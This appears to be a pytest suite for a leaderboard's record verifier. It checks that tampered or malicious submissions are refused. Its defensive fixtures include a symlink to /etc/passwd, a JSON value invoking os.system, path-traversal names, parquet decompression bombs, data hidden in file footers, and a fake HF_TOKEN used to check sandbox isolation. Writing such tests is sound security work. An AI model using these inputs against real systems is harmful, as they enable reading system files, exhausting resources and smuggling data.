        (LETTERS, lambda table: pa.concat_tables([table, table]), "not those of its"),
        (STRAWBERRY, _replace("turn", lambda turns: [1 - turn for turn in turns]), "not those of its"),
        (STRAWBERRY, lambda table: table.take(pa.array(np.arange(len(table))[::-1])), "not those of its"),
    ],
)  # fmt: skip
def test_observations_that_no_model_gives(
    record: Path, records: Path, file: str, change: Callable[[pa.Table], pa.Table], said: str
) -> None:
    rewrite(record / file, change)
    assert said in reason(resign(record, records), records)


def _continued(record: Path) -> None:
    """The reads of a record, as if each continuation had been scored by itself; none is written."""

    def change(table: pa.Table) -> pa.Table:
        table = replaced(table, "gold_token", lambda _: table["gold"].to_pylist())
        return replaced(table, "argmax", lambda values: [-1] * len(values))

    for file in (VAL, SPARSE, DENSE):
        rewrite(record / file, change)
    edit(record / "run.json", _set("data/tasks/flipflop/rendering/answers", "continuations"))
    edit(record / "run.json", lambda facts: facts | {"command": f"{facts['command']} --exact-continuations"})


def _sure(written: int) -> Callable[[pa.Table], pa.Table]:
    """The first read is nearly certain of the first symbol, and writes another."""

    def change(table: pa.Table) -> pa.Table:
        return _replace("argmax", _first(written))(_replace("logprobs", _first([-0.01, -9.0]))(table))

    return change


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda table: table, ""),
        (_sure(0), ""),
        (_sure(-1), "is not what is written"),
        (_sure(1), "is not what is written"),
        (_replace("argmax", _first(2)), "where continuations were scored"),
        (_replace("argmax", _first(-2)), "none"),
        (_replace("gold_token", lambda values: [one + 1 for one in values]), "where continuations were scored"),
        (_replace("logprobs", _first([-2e4, -1.0])), "below -10,000"),
        (_replace("logprobs", _first([-0.1, -0.1])), "add up to"),
    ],
)
def test_continuations_that_no_model_has(
    record: Path, records: Path, change: Callable[[pa.Table], pa.Table], said: str
) -> None:
    _continued(record)
    rewrite(record / VAL, change)
    consistent(record)
    assert said in reason(resign(record, records), records) if said else verify_record(resign(record, records)).accepted


@pytest.mark.parametrize(
    ("written", "line", "said"),
    [
        (0, [-0.01, -9.0], ""),
        (-1, [-0.01, -9.0], "is not what is written"),
        (1, [-0.01, -9.0], "is not what is written"),
        (0, [-1.0, -2e4], "below -10,000"),
    ],
)
def test_choices_that_no_model_makes(record: Path, records: Path, written: int, line: list[float], said: str) -> None:
    """Of two candidates those log-probabilities, of the others none to speak of."""
    rewrite(record / CAPITALS, _replace("written", _first(written)))
    rewrite(record / CAPITALS, _replace("logprobs", lambda lists: [line + [-99.0] * (len(lists[0]) - 2), *lists[1:]]))
    consistent(record)
    assert said in reason(resign(record, records), records) if said else verify_record(resign(record, records)).accepted


def test_log_probabilities_below_all_logits(record: Path, records: Path) -> None:
    rewrite(record / VAL, _replace("logprobs", _first([-2e5, -5.0])))
    assert "below -100,000" in reason(resign(record, records), records)


def test_ties_that_all_come_out_right(record: Path, records: Path) -> None:
    """Both symbols equally probable, and the right one said every time, whichever it is."""

    def tied(table: pa.Table) -> pa.Table:
        table = replaced(table, "logprobs", lambda lists: [[-0.7, -0.7]] * len(lists))
        return replaced(table, "argmax", lambda _: table["gold_token"].to_pylist())

    for split in (VAL, SPARSE, VAL.replace("val", "val_dense")):
        rewrite(record / split, tied)
    consistent(record)
    assert "equally probable" in reason(resign(record, records), records)


def test_what_was_accepted_stays_accepted(record: Path, records: Path) -> None:
    """A later record that has all of it, or a copy of it, is to be noted, and keeps nobody from replaying it."""
    other = records / "draft"
    shutil.copytree(record, other)
    edit(other / "submission.json", lambda facts: facts | {"disclosure": "Sent again."})
    folder = resign(other, records)
    assert "says what" in reason(folder, records)
    verdict = verify_record(record, records, new=False)
    assert verdict.accepted and any(folder.name in remark for remark in verdict.remarks)


def test_nulls_are_refused(record: Path, records: Path) -> None:
    table = pq.read_table(record / LETTERS)
    place = table.schema.get_field_index("output")
    holes = pa.array([None, *table["output"].to_pylist()[1:]], pa.string())
    pq.write_table(table.set_column(place, "output", holes), record / LETTERS)
    assert "gaps" in reason(resign(record, records), records)


def test_text_that_is_no_utf8(record: Path, records: Path) -> None:
    table = pq.read_table(record / LETTERS)
    broken = pa.array([b"\xff\xfe"] * len(table), pa.binary())
    broken = pa.Array.from_buffers(pa.string(), len(table), broken.buffers())
    place = table.schema.get_field_index("output")
    pq.write_table(table.set_column(place, "output", broken), record / LETTERS)
    assert "cannot be read" in reason(resign(record, records), records)


def test_splits_swapped(record: Path, records: Path) -> None:
    (record / VAL).rename(record / "other")
    (record / SPARSE).rename(record / VAL)
    (record / "other").rename(record / SPARSE)
    assert "not those of its" in reason(resign(record, records), records)


def test_a_better_answer_that_is_not_in_the_scores(record: Path, records: Path) -> None:
    rewrite(record / LETTERS, _replace("output", lambda texts: ["3", *texts[1:]]))
    rewrite(record / LETTERS, _replace("tokens", _first(2)))
    assert "result.json: accuracy of letters.test is 0.0 there" in reason(resign(record, records), records)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda result: result["scores"][0].update(value=0.999), "the observations give"),
        (lambda result: result["scores"][0].update(n=10**6), "the observations give"),
        (lambda result: result["scores"][0].update(value="1.0"), "the observations give"),
        (lambda result: result["scores"].pop(), "more or fewer scores"),
        (lambda result: result["scores"].append(result["scores"][0]), "more or fewer scores"),
        (lambda result: result.update(scores={}), "more or fewer scores"),
        (lambda result: result.update(note=MARKUP), "other fields"),
        (lambda result: result["model"].update(id="someone/better"), "result.json, model"),
        (lambda result: result["environment"].update(device="H200"), "result.json, environment"),
        (lambda result: [result], "no JSON object"),
    ],
)
def test_scores_that_do_not_follow(record: Path, records: Path, change: Callable[[Json], Any], said: str) -> None:
    edit(record / "result.json", lambda result: changed if isinstance(changed := change(result), list) else None)
    assert said in reason(resign(record, records), records)


@pytest.mark.parametrize("file", ["run.json", "submission.json", "result.json"])
@pytest.mark.parametrize(
    "content",
    [
        b"", b"{", b"null", b"[]", b"\xff\xfe", b'{"schema": NaN}', b'{"schema": Infinity}', b'{"schema": 1e999}',
        b'{"schema": 1, "schema": 2}', b"[" * 100_000, b'{"a":' * 100_000, b"9" * 10_000, b"\x00" * 10_000,
        b'{"model": {"__class__": "os.system"}}', b'{"schema": "fflm-run/1"}', b"x" * (9 * 2**20),
    ],
)  # fmt: skip
def test_files_that_are_no_json_of_ours(record: Path, records: Path, file: str, content: bytes) -> None:
    (record / file).write_bytes(content)
    assert "its contents say" not in reason(signed(record, records), records)


@pytest.mark.parametrize("file", ["run.json", "submission.json", "result.json", VAL, CAPITALS, LETTERS])
@pytest.mark.parametrize("part", [0.0, 0.3, 0.9, 0.99])
def test_truncated_files(record: Path, records: Path, file: str, part: float) -> None:
    content = (record / file).read_bytes()
    (record / file).write_bytes(content[: int(len(content) * part)])
    assert "its contents say" not in reason(signed(record, records), records)


@pytest.mark.parametrize("file", [VAL, CAPITALS, LETTERS])
def test_tables_that_are_something_else(record: Path, records: Path, file: str) -> None:
    content = (record / file).read_bytes()
    for other in (b"PAR1", b"PAR1PAR1", b"PK\x03\x04" + content, content[::-1], content[: len(content) // 2] * 2):
        (record / file).write_bytes(other)
        record = signed(record, records)
        assert "its contents say" not in reason(record, records)


def _link(record: Path) -> None:
    (record / VAL).unlink()
    (record / VAL).symlink_to("/etc/passwd")


def _linked_folder(record: Path) -> None:
    (record / "observations").rename(record.parent / "elsewhere")
    (record / "observations").symlink_to(record.parent / "elsewhere")


def _link_in_place(record: Path) -> None:
    record.rename(record.with_name("elsewhere"))
    record.symlink_to(record.with_name("elsewhere"))


def _many(record: Path) -> None:
    for number in range(200):
        (record / f"{number}.json").write_text("{}")


def _deep(record: Path) -> None:
    (record / "/".join(["observations"] * 20)).mkdir(parents=True)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_link, "is a link"),
        (_linked_folder, "is a link"),
        (_link_in_place, "no such folder"),
        (lambda record: os.mkfifo(record / "pipe"), "no plain file"),
        (lambda record: (record / "note.txt").write_text("hello"), "also has 'note.txt'"),
        (lambda record: (record / ".hidden").write_text("hello"), "also has '.hidden'"),
        (lambda record: (record / "weights.pkl").write_bytes(b"\x80\x04."), "also has 'weights.pkl'"),
        (lambda record: (record / "observations" / "letters.train.parquet").write_bytes(b"PAR1"), "also has"),
        (lambda record: (record / LETTERS).unlink(), "lacks 'observations/letters.test.parquet'"),
        (lambda record: (record / "result.json").unlink(), "lacks 'result.json'"),
        (lambda record: (record / "submission.json").unlink(), "submission.json is missing"),
        (lambda record: (record / "run.json").unlink(), "run.json is missing"),
        (_many, "more than 64 files"),
        (_deep, "too deep"),
        (lambda record: (record / "empty").mkdir(), "'empty' is an empty folder"),
        (lambda record: [(record / str(number)).mkdir() for number in range(70)], "more than 64 files"),
        (lambda record: (record / f"{MARKUP[:8]}.json").write_text("{}"), "also has"),
    ],
)  # fmt: skip
def test_other_files(record: Path, records: Path, change: Callable[[Path], Any], said: str) -> None:
    change(record)
    verdict = verify_record(record, records)
    assert said in verdict.reasons[0]


@pytest.mark.parametrize("name", ["0" * 12, "../x", MARKUP.replace("/", "")])
def test_a_folder_of_another_name(record: Path, records: Path, name: str) -> None:
    other = record.parent / Path(name).name
    record.rename(other)
    assert "its contents say" in reason(other, records)


def test_large_files_are_not_read(record: Path, records: Path) -> None:
    with (record / VAL).open("r+b") as file:
        file.truncate(2**40)  # of which nothing is on the disk
    assert "at most" in verify_record(record, records).reasons[0]


@pytest.mark.parametrize("file", ["run.json", "submission.json", "result.json"])
@pytest.mark.parametrize(
    "change", [lambda text: text + " " * 100, lambda text: text.replace("\n", "\r\n"), lambda text: " " + text]
)
def test_json_that_is_padded(record: Path, records: Path, file: str, change: Callable[[str], str]) -> None:
    (record / file).write_bytes(change((record / file).read_text(encoding="utf-8")).encode())
    assert "is not written as" in reason(resign(record, records), records)


def _with_hole(table: pa.Table, path: Path) -> None:
    """Bytes between the columns and the footer, which no reader looks at."""
    _plainly(table, path)
    content = path.read_bytes()
    footer = 8 + int.from_bytes(content[-8:-4], "little")
    path.write_bytes(content[:-footer] + b"hidden" * 100 + content[-footer:])


def _field_note(table: pa.Table) -> pa.Table:
    return table.cast(pa.schema([field.with_metadata({"note": "hidden"}) for field in table.schema]))


def _usual(table: pa.Table) -> dict[str, Any]:
    """The encodings that tables are written in."""
    usual: dict[str, Any] = {"compression": "zstd", "compression_level": 9, "write_statistics": False}
    if "logprobs" in table.schema.names:
        counters = {name: "DELTA_BINARY_PACKED" for name in ("id", "position", "gap") if name in table.schema.names}
        names = ("gold", "gold_token", "argmax", "written")
        usual["use_dictionary"] = [name for name in names if name in table.schema.names]
        usual["column_encoding"] = counters | {"logprobs.list.element": "BYTE_STREAM_SPLIT"}
    return usual


def _plainly(table: pa.Table, path: Path, **other: Any) -> None:
    """A table in those encodings, but for `other` options of the writer."""
    pq.write_table(table, path, **(_usual(table) | other))


def _with_note(table: pa.Table, path: Path, note: bytes) -> None:
    """A table with another schema of Arrow in its footer than that of its columns."""
    with pq.ParquetWriter(path, table.schema, **_usual(table), store_schema=False) as writer:
        writer.write_table(table)
        writer.add_key_value_metadata({"ARROW:schema": note})


def _hidden_schema(table: pa.Table, path: Path) -> None:
    """A text behind the schema that Arrow keeps in the footer, of which a reader takes the types alone."""
    note = base64.b64decode(pq.read_metadata(path).metadata[b"ARROW:schema"])
    _with_note(table, path, base64.b64encode(note + b"hidden text"))


def _noted_schema(table: pa.Table, path: Path) -> None:
    """A text in that schema."""
    note = table.schema.with_metadata({"note": "hidden"}).serialize().to_pybytes()
    _with_note(table, path, base64.b64encode(note))


def _unused_entries(table: pa.Table, path: Path) -> None:
    """A dictionary with entries that no row refers to."""
    note = pq.read_metadata(path).metadata[b"ARROW:schema"]
    place = table.schema.get_field_index("output")
    own = table["output"].combine_chunks().dictionary_encode()
    entries = pa.concat_arrays([own.dictionary, pa.array([f"hidden {one}" for one in range(500)])])
    _with_note(table.set_column(place, "output", pa.DictionaryArray.from_arrays(own.indices, entries)), path, note)


def _magic(sign: bytes) -> Callable[[pa.Table, Path], None]:
    """Another beginning, which readers pass over."""

    def write(table: pa.Table, path: Path) -> None:
        _plainly(table, path)
        path.write_bytes(sign + path.read_bytes()[4:])

    return write


def _with_option(**other: Any) -> Callable[[pa.Table, Path], None]:
    return lambda table, path: _plainly(table, path, **other)


@pytest.mark.parametrize(
    ("write", "said"),
    [
        (_plainly, ""),
        (lambda table, path: _plainly(_field_note(table), path), "notes on them"),
        (lambda table, path: _plainly(table.replace_schema_metadata({"note": "hidden"}), path), "notes"),
        (_with_option(store_schema=False), "notes"),
        (_with_option(write_page_index=True), "in no column"),
        (_with_hole, "in no column"),
        (_hidden_schema, "its schema has notes"),
        (_noted_schema, "notes on them"),
        (_magic(b"MZ\x90\x00"), "does not begin as a parquet file"),
        (_magic(b"#!/b"), "does not begin as a parquet file"),
        (_with_option(compression="gzip", compression_level=None), "are enough"),
        (_with_option(compression="none", compression_level=None), "are enough"),
        (_with_option(row_group_size=3), "groups of other sizes"),
        (_with_option(write_statistics=True), "are enough"),
    ],
)
@pytest.mark.parametrize("file", [DENSE, LETTERS])
def test_tables_that_carry_more(
    record: Path, records: Path, file: str, write: Callable[[pa.Table, Path], Any], said: str
) -> None:
    write(pq.read_table(record / file), record / file)
    verdict = verify_record(resign(record, records), records)
    assert said in "".join(verdict.reasons) and bool(verdict.reasons) == bool(said)


def test_a_dictionary_of_what_no_row_says(record: Path, records: Path) -> None:
    _unused_entries(pq.read_table(record / LETTERS), record / LETTERS)
    assert pq.read_table(record / LETTERS).schema.equals(observations.COMPLETIONS)
    assert "its column 'output' takes" in reason(resign(record, records), records)


def _of_another_version(monkeypatch: pytest.MonkeyPatch, **changed: Any) -> None:
    """From now on tables are written here by another version than those that are judged: in another compression."""
    usual = pq.ParquetWriter

    def write(*arguments: Any, **options: Any) -> Any:
        return usual(*arguments, **(options | changed))

    monkeypatch.setattr(tables.pq, "ParquetWriter", write)


def test_tables_that_another_zstd_compressed(record: Path, records: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same pages in a few bytes more or less; what is hidden takes more."""
    _of_another_version(monkeypatch, compression_level=12)
    assert judged(record, records).reasons == ()
    _unused_entries(pq.read_table(record / LETTERS), record / LETTERS)
    assert "are enough" in reason(resign(record, records), records)


def test_tables_that_another_pyarrow_wrote(record: Path, records: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its name in the footer, pages of other sizes: what earlier versions do differently."""

    def rename(path: Path) -> None:
        content = path.read_bytes()
        name = f"parquet-cpp-arrow version {pa.__version__}".encode()
        path.write_bytes(content.replace(name, name[:-1] + bytes([48 + (name[-1] - 47) % 10])))

    for path in (record / "observations").iterdir():
        _plainly(pq.read_table(path), path, data_page_version="1.0", compression_level=8)
        rename(path)
    record = resign(record, records)
    assert judged(record, records).reasons == ()
    whole = (record / VAL).read_bytes()
    _hidden_schema(pq.read_table(record / VAL), record / VAL)
    rename(record / VAL)
    record = resign(record, records)
    assert "its schema has notes" in reason(record, records)
    (record / VAL).write_bytes(whole)
    _unused_entries(pq.read_table(record / LETTERS), record / LETTERS)
    rename(record / LETTERS)
    assert "are enough" in reason(resign(record, records), records)


@pytest.mark.parametrize("rows", [1, 5_000])
def test_a_table_is_written_in_the_pieces_of_a_run(tmp_path: Path, rows: int) -> None:
    """By windows of rows of data, whatever pieces it is read in."""
    schema = observations.COMPLETIONS
    columns = [range(rows), [0] * rows, [str(row) for row in range(rows)], [1] * rows]
    table = pa.Table.from_arrays(
        [pa.array(one, field.type) for one, field in zip(columns, schema, strict=False)], schema=schema
    )
    with observations.writing(tmp_path / "merged", schema) as writer:
        for first in range(0, rows, CHUNK_ROWS):
            writer.write_table(table.slice(first, CHUNK_ROWS))
    observations.write_whole(tmp_path / "whole", pa.concat_tables([table.slice(0, 1), table.slice(1)]))
    assert (tmp_path / "whole").read_bytes() == (tmp_path / "merged").read_bytes()


@pytest.mark.parametrize(
    ("file", "value"), [(VAL, [-1.00001, -2.0]), (CAPITALS, -7.000001), (DENSE, [-1.0, -2.0 - 2.0**-17])]
)
def test_numbers_that_are_not_rounded(record: Path, records: Path, file: str, value: Any) -> None:
    """The last bits of numbers are room for anything."""
    table = pq.read_table(record / file)
    first = value if isinstance(value, list) else [value, *table["logprobs"][0].as_py()[1:]]
    _plainly(replaced(table, "logprobs", _first(first)), record / file)
    assert "not rounded to multiples" in reason(resign(record, records), records)


def _renumbered(table: pa.Table) -> pa.Table:
    """The tokens of the symbols under other ids, everywhere."""
    others = {token: 10**6 + token for token in table["gold_token"].to_pylist()}
    for name in ("gold_token", "argmax"):
        table = replaced(table, name, lambda ids: [others.get(one, one) for one in ids])
    return table


@pytest.mark.parametrize(
    ("vocabulary", "change", "said"),
    [
        (None, lambda table: table, ""),
        (None, _replace("argmax", _first(2**31 - 1)), "vocabulary has"),
        (10**6, _replace("argmax", _first(10**6)), "the token 1,000,000, and the vocabulary has"),
        (10**6, _renumbered, "vocabulary has 1,000,000"),
        (2, lambda table: table, "vocabulary has 2"),
        (10**9, lambda table: table, "vocabulary"),
    ],
)
def test_tokens_that_no_vocabulary_has(
    record: Path, records: Path, vocabulary: int | None, change: Callable[[pa.Table], pa.Table], said: str
) -> None:
    """With a vocabulary that run.json states, and without one, as earlier versions wrote it."""
    edit(record / "run.json", _model(vocabulary=vocabulary) if vocabulary else _without_vocabulary)
    for file in (VAL, SPARSE, DENSE):
        rewrite(record / file, change)
    consistent(record)
    verdict = verify_record(resign(record, records), records)
    assert said in "".join(verdict.reasons) and bool(verdict.reasons) == bool(said)


def _without_vocabulary(facts: Json) -> None:
    del facts["model"]["vocabulary"]


def test_first_tokens_that_no_vocabulary_has(record: Path, records: Path) -> None:
    edit(record / "run.json", _set("data/tasks/letters/rendering/first_tokens", [1, 99_999_999]))
    consistent(record)
    assert "letters.test has the token 99,999,999" in reason(resign(record, records), records)


def bomb(schema: pa.Schema, rows: int, path: Path, text: str = "") -> None:
    """Few bytes on the disk that are many in memory: one value again and again."""
    size = min(rows, 10**6)
    columns = []
    for field in schema:
        if pa.types.is_string(field.type):
            columns.append(pa.DictionaryArray.from_arrays(pa.array(np.zeros(size, np.int32)), pa.array([text])))
        elif pa.types.is_list(field.type) or pa.types.is_fixed_size_list(field.type):
            columns.append(pa.FixedSizeListArray.from_arrays(pa.array(np.zeros(2 * size, np.float32)), type=field.type))
        else:
            columns.append(pa.array(np.zeros(size, field.type.to_pandas_dtype())))
    table = pa.Table.from_arrays(columns, names=schema.names)
    with pq.ParquetWriter(path, table.schema, compression="zstd") as writer:
        for _ in range(rows // size):
            writer.write_table(table)


def test_ten_million_rows(record: Path, records: Path) -> None:
    bomb(pq.read_schema(record / VAL), 10**7, record / VAL)
    assert (record / VAL).stat().st_size < 10**6
    assert "10,000,000 rows" in reason(resign(record, records), records)


def test_a_table_that_does_not_fit_into_memory(record: Path, records: Path) -> None:
    """A million times the same megabyte: 1 TB of text in a file of under 100 KB. Its process is ended, not ours."""
    bomb(pq.read_schema(record / LETTERS), 10**6, record / LETTERS, "x" * 2**20)
    assert (record / LETTERS).stat().st_size < 10**5
    verdict = verify_in_sandbox(resign(record, records), records)
    assert not verdict.accepted and verdict.reasons


def test_an_honest_record_judged_apart(record: Path, records: Path) -> None:
    assert verify_in_sandbox(record, records) == verify_record(record, records)


def instead(monkeypatch: pytest.MonkeyPatch, program: str) -> None:
    """Another program in the place of the one that verifies."""
    root = str(Path(__file__).parents[2])
    monkeypatch.setattr(
        "harness.models.sandbox.command", lambda module, *words: [sys.executable, "-B", "-c", program, root, *words]
    )


def test_a_process_that_ends_is_a_refusal(record: Path, records: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever kills it."""
    instead(monkeypatch, "import os; os.kill(os.getpid(), 9)")
    assert "by signal 9" in verify_in_sandbox(record, records).reasons[0]
    instead(monkeypatch, "import time; time.sleep(60)")
    monkeypatch.setattr("leaderboard.verification.sandbox.MOST_SECONDS", 1)
    assert "more than 1 seconds" in verify_in_sandbox(record, records).reasons[0]


@pytest.mark.parametrize(("error", "memory"), [("ZeroDivisionError", False), ("MemoryError", True)])
def test_a_judge_that_fails_is_a_refusal(
    record: Path, monkeypatch: pytest.MonkeyPatch, error: str, memory: bool
) -> None:
    program = (
        "import sys; sys.path[:0] = [sys.argv[1]]\nfrom leaderboard.verification import sandbox\n"
        f"def fail(*_, **__): raise {error}\nsandbox.verify_record = fail; sandbox.main(*sys.argv[2:])"
    )
    instead(monkeypatch, program)
    (said,) = verify_in_sandbox(record).reasons
    assert f"the judge failed on it ({error}" in said and ("memory" in said) == memory
    instead(monkeypatch, "raise SystemExit(3)")
    assert "with status 3)" in verify_in_sandbox(record).reasons[0]


def test_the_process_of_a_judge_may_write_nothing_and_knows_no_token(
    record: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = (
        "import os, sys, json; sys.path[:0] = [sys.argv[1]]\n"
        "from leaderboard.verification import sandbox; sandbox._limit()\n"
        f"try:\n with open({str(tmp_path / 'written')!r}, 'w') as file: file.write('x'); file.flush(); said = 'wrote'\n"
        "except OSError: said = 'could not'\n"
        "print(json.dumps({'path': said, 'reasons': [str('HF_TOKEN' in os.environ)], 'remarks': []}))"
    )
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    instead(monkeypatch, program)
    verdict = verify_in_sandbox(record)
    assert (verdict.path, verdict.reasons) == ("could not", ("False",))


def test_verify_says_it_to_people_and_to_machines(cli: Run, record: Path, records: Path) -> None:
    result = cli("harness", "verify", record)
    assert result.returncode == 0 and "accepted: local--tiny/" in result.stdout
    result = cli("harness", "verify", records, "--json")
    (verdict,) = json.loads(result.stdout)
    assert verdict["accepted"] and verdict["model"]["id"] == "local/tiny" and verdict["scores"]
    edit(record / "result.json", lambda value: value["scores"][0].update(value=1.0))
    record = resign(record, records)
    result = cli("harness", "verify", record)
    assert result.returncode == 1 and "refused" in result.stdout and "result.json" in result.stdout
    (verdict,) = json.loads(cli("harness", "verify", record, "--json").stdout)
    assert not verdict["accepted"] and verdict["reasons"]


def test_verify_needs_something_to_judge(cli: Run, tmp_path: Path) -> None:
    assert "no folder" in refused(cli("harness", "verify", tmp_path / "nowhere"))
    assert "no record" in refused(cli("harness", "verify", tmp_path))


# Runs as they are made.

TEMPLATE = "{% for one in messages %}[{{ one.role }}] {{ one.content }}\n{% endfor %}[assistant] "


def published(run: Path, records: Path) -> Path:
    """The record of a run as harness submit makes it."""
    edit(run / "run.json", public_facts)
    consistent(run)
    return make_record(run, records)


@pytest.fixture(scope="module")
def talking(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A model with a chat template, in a folder whose name no model of the Hub has."""
    folder = models.save_tiny(tmp_path_factory.mktemp("talking") / "tiny--chat.", models.gpt2_like())
    (folder / "chat_template.jinja").write_text(TEMPLATE, encoding="utf-8")
    return folder


@pytest.mark.parametrize(
    "options",
    [
        ["--task", "letters", "--task", "letters", "--strict"],
        ["--task", "letters", "--shots", "1", "--dtype", "float32", "--batch-size", "1"],
        ["--task", "letters", "--chat", "off", "--attention", "eager"],
        ["--task", "letters", "--chat", "on", "--system", "Be (very) brief; it's late."],
        ["--task", "letters", "--chat", "on", "--system", "Be brief.\n\nRules:\n\t- one number\n- no more"],
        ["--task", "letters", "--dtype", "bfloat16", "--thinking", "0"],
        ["--task", "strawberry", "--challenges", "0"],
        ["--task", "flipflop-prose", "--exact-continuations"],
    ],
)
def test_honest_options(talking: Path, tmp_path: Path, records: Path, options: list[str]) -> None:
    arguments = ["--model", str(talking), *options, "--limit", "1", "--output", str(tmp_path / "runs")]
    assert main(["eval", *arguments]) == 0
    record = published(only_run(tmp_path / "runs").folder, records)
    assert judged(record, records).reasons == ()


def test_the_command_without_options(tmp_path: Path, records: Path) -> None:
    """A suite, of which a model answers some tasks."""
    assert main(["eval", "--output", str(tmp_path / "runs")]) == 0
    record = published(only_run(tmp_path / "runs").folder, records)
    assert json.loads((record / "run.json").read_text("utf-8"))["left_out"]
    assert judged(record, records).reasons == ()
    edit(record / "run.json", lambda facts: facts["left_out"].popitem() and None)
    assert "its suite has other tasks" in reason(resign(record, records), records)


COMMIT = "0123456789abcdef" * 2 + "01234567"
LORA = {"id": "local/lora", "revision": COMMIT}
HUB = {"id": "org/model", "revision": COMMIT}


@pytest.mark.parametrize(
    ("model", "options", "said"),
    [
        ({"compiled": True}, "--model tiny --compile", ""),
        ({"adapter": LORA}, "--model tiny --adapter ./lora", ""),
        ({"adapter": LORA}, "--model tiny --adapter ./other", "its adapter"),
        ({"adapter": LORA | {"id": "org/lora"}}, "--model tiny --adapter org/lora", ""),
        ({"adapter": LORA | {"id": "org/lora"}}, "--model tiny --adapter org/lora@v1", ""),
        ({"adapter": LORA | {"id": "org/lora"}}, f"--model tiny --adapter org/lora@{COMMIT}", ""),
        ({"adapter": LORA | {"id": "org/lora"}}, f"--model tiny --adapter org/lora@{'1' * 40}", "its revision"),
        ({"adapter": LORA}, "--model tiny", "its adapter"),
        (HUB, f"--model org/model --revision {COMMIT}", ""),
        (HUB, f"--model org/model --revision {COMMIT[:8]}", ""),
        (HUB, "--model org/model --revision main", ""),
        (HUB, "--model org/model --revision 20240131", ""),
        (HUB, "--model org/model --revision 0123457a", "its revision"),
        (HUB, f"--model org/model --revision {'1' * 40}", "its revision"),
        (HUB, "--model org/other", "its model"),
        ({"gguf_file": "a/b.Q4.gguf", "id": "local/b.Q4"}, "--model some/folder --gguf-file a/b.Q4.gguf", ""),
        ({"gguf_file": "a/b.Q4.gguf"}, "--model tiny --gguf-file a/b.Q4.gguf", "its model"),
        ({"id": "local/my-model"}, "--model 'files/my model'", ""),
        ({"quantization": "4bit"}, "--model tiny --quantization 4bit", ""),
    ],
)
def test_models_as_commands_name_them(record: Path, records: Path, model: Json, options: str, said: str) -> None:
    edit(record / "run.json", _both(_model(**model), _command("--model tiny", options)))
    consistent(record)
    record = resign(record, records)
    assert said in reason(record, records) if said else judged(record, records).reasons == ()


@pytest.fixture(scope="module")
def external(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("supplied")
    run = external_run(folder, "--system", "Be brief.", "--limit", "20").folder
    edit(run / "run.json", public_facts)
    consistent(run)
    return run


@pytest.mark.parametrize("options", [(), ("--chat", "off", "--shots", "2")])
def test_outputs_from_elsewhere(tmp_path: Path, records: Path, options: tuple[str, ...]) -> None:
    record = published(external_run(tmp_path, *options, "--limit", "5").folder, records)
    assert judged(record, records).reasons == ()


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_model(dtype="float32"), "nothing else of it"),
        (_model(parameters=7), "nothing else of it"),
        (_model(strict=True), "nothing else of it"),
        (_set("left_out", {"strawberry": "no"}), "nothing else of it"),
        (_set("environment/torch", "2.0"), "no environment"),
        (_set("environment/device", "cpu"), "no environment"),
        (_letters(prompting={"template": "0" * 64}), "does not know"),
        (_letters(prompting={"thinking": 5}), "does not know"),
        (_letters(prompting={"opened": True}), "does not know"),
        (_letters(prompting={"switch": "thinking"}), "does not know"),
        (_letters(prompting={"template": None}), "only a template says"),
        (_letters(rendering={"answers": "text", "first_tokens": [1], "first_token_is_bos": False}), "a rendering"),
        (_command("--system 'Be brief.'", ""), "no command"),
        (_command(" --system 'Be brief.'", ""), "--system"),
        (_command("prompts.jsonl", "out/prompts.jsonl"), "more than the name of a file"),
        (_command("prompts.jsonl", ".prompts"), "more than the name of a file"),
        (_command("prompts.jsonl", "../prompts"), "folder of somebody's machine"),
    ],
)
def test_outputs_from_elsewhere_that_tell_more(
    external: Path, records: Path, change: Callable[[Json], Any], said: str
) -> None:
    record = make_record(external, records)
    usual = json.loads((record / "run.json").read_text("utf-8"))["data"]["tasks"]["letters"]["prompting"]

    def changed(facts: Json) -> None:
        asked = facts["data"]["tasks"]["letters"]
        asked["prompting"] = usual | asked["prompting"]

    edit(record / "run.json", change)
    edit(record / "run.json", _both(changed, with_id))
    assert said in reason(signed(record, records), records)


@pytest.mark.parametrize("name", ["flipflop", "capitals", "strawberry"])
def test_tasks_that_nobody_answers_from_elsewhere(record: Path, records: Path, name: str) -> None:
    """What was read off probabilities, or said in turns, is said to come from a service."""

    def change(facts: Json) -> None:
        facts |= {"outputs": "supplied", "command": f"harness prompts --task {name} --out prompts.jsonl"}
        model = {name: facts["model"][name] for name in ("id", "revision")}
        facts |= {"model": {**model, "parameters": 0, "dtype": "supplied"}}
        facts["environment"] = {"fflm": facts["environment"]["fflm"], "device": "supplied"}
        facts["data"]["tasks"] = {name: facts["data"]["tasks"][name]}
        facts["data"]["tasks"][name].pop("rendering")

    edit(record / "run.json", change)
    for path in (record / "observations").iterdir():
        path.unlink() if not path.name.startswith(f"{name}.") else None
    consistent(record)
    assert f"{name} cannot be answered from elsewhere" in reason(resign(record, records), records)


@pytest.mark.parametrize(
    ("name", "called"),
    [
        ("model-", "model"), ("my model--v1 \u00e9", "my-model-v1"), ("a..b", "a.b"), ("...", "model"), ("", "model"),
        (".hidden", "hidden"), ("x" * 95 + "-yz", "x" * 95), ("Smol-135M-Instruct.Q4_1", "Smol-135M-Instruct.Q4_1"),
    ],
)  # fmt: skip
def test_names_of_folders(name: str, called: str) -> None:
    assert local_id(name) == f"local/{called}"
